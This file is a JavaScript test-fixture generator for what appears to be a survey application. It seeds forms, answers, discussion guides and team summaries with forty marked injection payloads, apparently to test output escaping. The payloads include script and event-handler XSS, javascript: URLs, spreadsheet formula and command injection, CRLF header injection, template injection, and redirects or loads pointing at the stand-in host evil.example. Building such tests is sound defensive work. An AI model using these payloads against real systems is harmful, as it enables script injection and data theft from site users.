// Forty texts that a browser could take for more than a text, and files that have them wherever
// somebody may write: a form, a guide, the team's words, what respondents say.
//
// Each has a mark of its own (qzaa to qzbn), so that it is found again wherever it came to stand;
// marks are letters alone, so that nobody takes them for a number to redact.
//
// SPDX-License-Identifier: AGPL-3.0-or-later

const shapes = [
	(m) => `<script>alert("${m}")</script>`,
	(m) => `<img src=x onerror=alert("${m}")>`,
	(m) => `"><svg onload=alert("${m}")>`,
	(m) => `'><img src=//evil.example/${m}>`,
	(m) => `</textarea><script>alert("${m}")</script>`,
	(m) => `</title><script>alert("${m}")</script>`,
	(m) => `</style><script>alert("${m}")</script>`,
	(m) => `</script><script>alert("${m}")</script>`,
	(m) => `</option></select><b id=${m}>`,
	(m) => `--><b id=${m}><!--`,
	(m) => `]]><b id=${m}>`,
	(m) => `<![CDATA[<b id=${m}>]]>`,
	(m) => `<?xml-stylesheet href="//evil.example/${m}"?>`,
	(m) => `<!DOCTYPE ${m} [<!ENTITY x "y">]>&x;`,
	(m) => `javascript:alert("${m}")`,
	(m) => `JaVaScRiPt&colon;alert("${m}")`,
	(m) => `&#x3c;b id=${m}&#x3e;`,
	(m) => `&lt;script&gt;alert("${m}")&lt;/script&gt;`,
	(m) => `&amp;lt;b id=${m}&amp;gt;`,
	(m) => `data:text/html,<b id=${m}>`,
	(m) => `\u202e${m} <b>desrever\u202c`,
	(m) => `\u2067${m} \u05d0\u05d1\u05d2 <b id=${m}> \u2069`,
	(m) => `${m} \u0645\u0631\u062d\u0628\u0627 \u05e9\u05dc\u05d5\u05dd 12 <b>`,
	(m) => `${m}\u2028<b id=${m}>\u2029`,
	(m) => `${m}\u0001\u0085%00&#0;<b id=${m}>`,
	(m) => `=HYPERLINK("//evil.example/${m}","x")`,
	(m) => `@SUM(A1)|cmd ${m} '!A1`,
	(m) => `{{${m}}}\${alert("${m}")}<%= 1 %>`,
	(m) => `\`\${alert("${m}")}\``,
	(m) => `%0d%0aSet-Cookie: ${m}=1%0d%0a%0d%0a<b>`,
	(m) => `\r\nX-Qz: 1\r\n\r\n<b id=${m}>`,
	(m) => `url(//evil.example/${m})`,
	(m) => `};body{background:url(//evil.example/${m})}`,
	(m) => `" style="background:url(//evil.example/${m})`,
	(m) => `' autofocus onfocus=alert("${m}") x='`,
	(m) => `" formaction="//evil.example/${m}`,
	(m) => `<base href="//evil.example/${m}">`,
	(m) => `<meta http-equiv=refresh content="0;//evil.example/${m}">`,
	(m) => `\\"};alert("${m}");//../../..`,
	(m) => `${m}${'<b>'.repeat(3000)}`,
];
export const mark_of = (i) => `qz${'ab'[Math.floor(i / 26)]}${String.fromCharCode(97 + (i % 26))}`;
export const mark = /qz[ab][a-z]/;
export const marks = shapes.map((_, i) => mark_of(i));
export const hostile = shapes.map((shape, i) => shape(mark_of(i)));

const cut = (text, most) => [...text].slice(0, most).join('');

// What may stand on one line of a form or guide: the signs and braces that those refuse are left out.
export const line = (text, most = 80) => cut(text
	.replace(/[\u0000-\u001f\u007f-\u009f\u200b\u2028-\u202e\u2060{}]/g, ' '), most).trim();

// What may stand in the team's words, where no name or address in a network may, and no share
// written out.
export const told = (text, most = 80) => line(text, most).replace(/^@/, '@ ').replace(/evil\.example/, 'evil').replace('X-Qz', 'x-qz').replace('http-equiv=refresh', 'x').replace(/%/g, '\u00b0');

// One after another, those that are short enough.
export function turns(most, of = line) {
	turns.at = turns.at ?? 0;
	for (;;) {
		const text = of(hostile[turns.at++ % hostile.length], most);
		if (mark.test(text)) return text;
	}
}

const q = (text) => JSON.stringify(text);
const letters = 'abcdefghijklmnopqrst';
export const people = 240;

// Every option and every theme is one of them; so is what else a form may say.
export function form() {
	const t = (most) => q(turns(most));
	const asks = (id, type) => [`      - id: ${id}`, `        ask: ${t(200)}`, `        hint: ${t(120)}`,
		`        help: ${t(200)}`, `        type: ${type}`];
	const out = ['canvass: form 1', 'id: hostile', `title: ${t(60)}`, `run by: ${t(60)}`, `read by: ${t(60)}`, 'languages: [en]',
		'expected: 5000', 'privacy:', '  smallest group: 5', '  break down by: [role]', `  warning: ${t(120)}`,
		'themes:', ...[...letters].map((c, i) => `  theme${c}: ${q(line(hostile[i], 60))}`),
		'theme words:', '  themea: [kettle]', '  themeb: [teapot]',
		'consent:', `  text: ${t(200)}`, `  agree: ${t(40)}`, 'support:', `  - name: ${t(60)}`, `    contact: ${t(60)}`,
		'poster:', `  call: ${t(60)}`, 'pages:', `  - title: ${t(80)}`, `    text: ${t(200)}`, `    why: ${t(200)}`, '    questions:',
		...asks('role', 'choose one'), '        options:', `          ra: ${t(80)}`, `          rb: ${t(80)}`, `        or: ${t(80)}`];
	for (let part = 0; part < 2; part++)
		out.push(`  - title: ${t(80)}`, '    questions:', ...asks(`part${part}`, part ? 'choose any' : 'choose one'),
			'        theme: themea', '        break down: no', '        options:',
			...[...letters].map((c, i) => `          k${c}: ${q(line(hostile[20 * part + i]))}`));
	out.push(`  - title: ${t(80)}`, '    questions:', ...asks('scale', 'scale'), '        theme: themeb', '        options:',
		...[1, 2, 3].map((n) => `          ${n}: ${t(80)}`),
		`  - title: ${t(80)}`, '    questions:', ...asks('', 'statements').slice(1).map((l, i) => (i ? l : l.replace('        ask', '      - ask'))), '        options:', ...[1, 2, 3].map((n) => `          ${n}: ${t(80)}`),
		'        statements:', `          fa: ${t(200)}`, `          fb: ${t(200)}`,
		`  - title: ${t(80)}`, '    questions:', ...asks('words', 'long text'), '        up to: 400 characters',
		`        themes: [${[...letters].map((c) => `theme${c}`).join(', ')}]`, `thanks: ${t(200)}`);
	return `${out.join('\n')}\n`;
}

// As posted by the door; comments keep to 400 characters.
export function answers() {
	const one = (n) => ({
		role: ['ra', 'rb'][n % 2], part0: `k${letters[n % 20]}`, part1: [`k${letters[n % 20]}`], scale: n % 3 + 1, fa: n % 3 + 1, fb: n % 2 + 1,
		...(n < hostile.length ? { words: cut(`${hostile[n]} ${n % 2 ? 'kettle' : 'teapot'}`, 400) } : {}),
	});
	return Array.from({ length: people }, (_, n) => `${JSON.stringify(one(n))}\n`).join('');
}

export function guide() {
	const t = (most) => q(turns(most));
	const options = () => ['yes', 'no', 'may'].map((id) => `      ${id}: ${t(80)}`);
	const probes = (from) => ['    probes:', ...Array.from({ length: 10 }, (_, i) => `      - ${q(line(hostile[(from + i) % 40], 200))}`)];
	return `${['canvass: guide 1', 'id: hostile-guide', 'form: hostile', `title: ${t(60)}`, 'group: victims', 'languages: [en]', 'lasts: 66 minutes',
		'smallest room: 4', 'show from: 3', `pause word: ${q(turns(20))}`, 'ground rules:', ...Array.from({ length: 12 }, () => `  - ${t(200)}`),
		'opening:', '  minutes: 8', `  read: ${t(400)}`, 'sections:',
		'  - theme: themea', '    minutes: 12', '    warm up:', `      ask: ${t(200)}`, '      options:', ...options().map((l) => `  ${l}`),
		`    ask: ${t(200)}`, `    hint: ${t(120)}`, '    phones: words', ...probes(0),
		'  - theme: themeb', '    minutes: 20', `    ask: ${t(200)}`, `    hint: ${t(120)}`, '    phones: notes', '    then: three votes each', ...probes(10), '    read back: yes',
		'  - theme: themec', '    minutes: 10', `    ask: ${t(200)}`, '    phones: votes', '    options:', ...options(), ...probes(20),
		'  - theme: themed', '    minutes: 11', `    ask: ${t(200)}`, '    phones: scorecard', '    options:', ...options(),
		'    statements:', ...[...'abcdefghij'].map((c) => `      s${c}: ${t(200)}`), ...probes(30),
		'closing:', '  minutes: 5', `  read: ${t(400)}`].join('\n')}\n`;
}

export function words() {
	const t = () => q(turns(70, told));
	const out = ['canvass: words 1', 'headlines:', ...Array.from({ length: 5 }, () => `  - ${t()}`)];
	for (const part of ['last quarter', 'next quarter', 'benefits', 'challenges', 'actions']) out.push(`${part}:`, ...Array.from({ length: 8 }, () => `  - ${t()}`));
	out.push('opportunities:');
	for (let i = 0; i < 20; i++) out.push(`  - theme: theme${letters[i]}`, `    said: ${t()}`, `    department: ${t()}`, `    quarter: ${q(turns(40, told))}`);
	out.push('you said, we did:');
	for (let i = 0; i < 12; i++) out.push(`  - said: ${t()}`, `    did: ${t()}`, `    department: ${t()}`);
	return `${out.join('\n')}\n`;
}
